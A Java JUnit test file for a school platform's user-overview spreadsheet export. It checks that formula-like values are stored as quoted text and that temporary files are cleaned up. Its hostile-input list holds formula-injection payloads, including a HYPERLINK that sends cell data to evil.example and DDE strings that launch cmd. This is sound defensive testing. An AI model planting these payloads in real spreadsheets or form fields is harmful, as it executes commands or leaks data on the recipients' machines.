package nl.klaspoort.spreadsheet;

import static nl.klaspoort.spreadsheet.TestFiles.in;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.util.DefaultTempFileCreationStrategy;
import org.apache.poi.util.TempFile;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** B15: the download of the user overview, read back with POI: every value intact and nothing Excel would evaluate. */
class UserExportTest {

    private final Spreadsheets spreadsheets = new Spreadsheets();

    private static final List<String> HOSTILE = List.of("=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")",
            "+31 6 12345678", "-5", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\rRegel");

    @Test
    void formulaLikeTextIsWrittenAsQuotedTextAndNeverAsAFormula() throws Exception {
        List<UserExportRow> users = new ArrayList<>();
        for (String hostile : HOSTILE) {
            users.add(new UserExportRow(hostile, hostile, hostile, 5, hostile, Set.of(SheetRole.STUDENT), List.of(hostile, "Leeslab"), hostile));
        }
        users.add(new UserExportRow("Anna", "van", "Dijk", 3, "3A", Set.of(SheetRole.STUDENT), List.of("Leeslab", "Spellingster"), "anna.vandijk"));
        users.add(new UserExportRow("Jan", null, "Visser", null, null, Set.of(SheetRole.SUPERVISOR, SheetRole.ADMIN), List.of(), "jan@school.nl"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        int written = spreadsheets.writeUsers(users.stream(), out);

        assertThat(written).isEqualTo(users.size());
        assertThat(TestFiles.text(out.toByteArray(), "xl/worksheets/sheet1.xml")).doesNotContain("<f>", "<f ");
        try (XSSFWorkbook workbook = new XSSFWorkbook(in(out.toByteArray()))) {
            XSSFSheet sheet = workbook.getSheet("Gebruikers");
            assertThat(texts(sheet.getRow(0))).containsExactly("Voornaam", "Tussenvoegsel", "Achternaam", "Leerjaar", "Groep",
                    "Rollen", "Producten", "Gebruikersnaam");
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:H1");
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as(cell.getAddress().formatAsString()).isIn(CellType.STRING, CellType.NUMERIC);
                }
            }
            for (int i = 0; i < HOSTILE.size(); i++) {
                Row row = sheet.getRow(i + 1);
                String hostile = HOSTILE.get(i);
                for (int col : new int[] {0, 1, 2, 4, 7}) {
                    assertThat(row.getCell(col).getStringCellValue()).isEqualTo(hostile);
                    assertThat(row.getCell(col).getCellStyle().getQuotePrefixed()).as("quote prefix on " + row.getCell(col).getAddress()).isTrue();
                }
                assertThat(row.getCell(6).getStringCellValue()).isEqualTo(hostile + ", Leeslab");
                assertThat(row.getCell(6).getCellStyle().getQuotePrefixed()).isTrue();
                assertThat(row.getCell(5).getCellStyle().getQuotePrefixed()).isFalse();
            }
            Row anna = sheet.getRow(HOSTILE.size() + 1);
            assertThat(texts(anna)).containsExactly("Anna", "van", "Dijk", "3.0", "3A", "Leerling", "Leeslab, Spellingster", "anna.vandijk");
            assertThat(anna.getCell(3).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(anna.getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
            Row jan = sheet.getRow(HOSTILE.size() + 2);
            assertThat(jan.getCell(1)).isNull();
            assertThat(jan.getCell(3)).isNull();
            assertThat(jan.getCell(5).getStringCellValue()).isEqualTo("Beheerder, Begeleider");
            assertThat(jan.getCell(6)).isNull();
        }
    }

    @Test
    void temporaryFilesAreDeletedAfterTheDownloadAndAfterAFailedOne(@TempDir Path poiTemp) {
        TempFile.setTempFileCreationStrategy(new DefaultTempFileCreationStrategy(poiTemp.toFile()));
        try {
            Stream<UserExportRow> many = IntStream.range(0, 5_000).mapToObj(i -> new UserExportRow("Kind" + i, null, "Smit", 1 + i % 8,
                    "Groep " + (1 + i % 8), Set.of(SheetRole.STUDENT), List.of("Leeslab"), "kind" + i));
            List<String> seen = new ArrayList<>();
            OutputStream watching = new ByteArrayOutputStream() {
                @Override
                public void write(byte[] b, int off, int len) {
                    seen.addAll(filesIn(poiTemp));
                    super.write(b, off, len);
                }
            };
            assertThat(spreadsheets.writeUsers(many, watching)).isEqualTo(5_000);
            assertThat(seen).as("rows beyond the window went to a temporary file").anyMatch(name -> name.startsWith("poi-sxssf-sheet"));
            assertThat(filesIn(poiTemp)).isEmpty();

            OutputStream broken = new OutputStream() {
                private int written;

                @Override
                public void write(int b) throws IOException {
                    if (++written > 1_000) {
                        throw new IOException("connection reset by the browser");
                    }
                }
            };
            Stream<UserExportRow> again = IntStream.range(0, 5_000).mapToObj(i -> new UserExportRow("Kind" + i, null, "Smit", 1,
                    "1A", Set.of(SheetRole.STUDENT), List.of(), "kind" + i));
            assertThatThrownBy(() -> spreadsheets.writeUsers(again, broken)).isInstanceOf(UncheckedIOException.class);
            assertThat(filesIn(poiTemp)).isEmpty();
        } finally {
            TempFile.setTempFileCreationStrategy(new DefaultTempFileCreationStrategy());
        }
    }

    private static List<String> filesIn(Path dir) {
        try (Stream<Path> files = Files.walk(dir)) {
            return files.map(Path::toFile).filter(File::isFile).map(File::getName).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        row.forEach(cell -> texts.add(cell.getCellType() == CellType.NUMERIC ? Double.toString(cell.getNumericCellValue()) : cell.getStringCellValue()));
        return texts;
    }
}
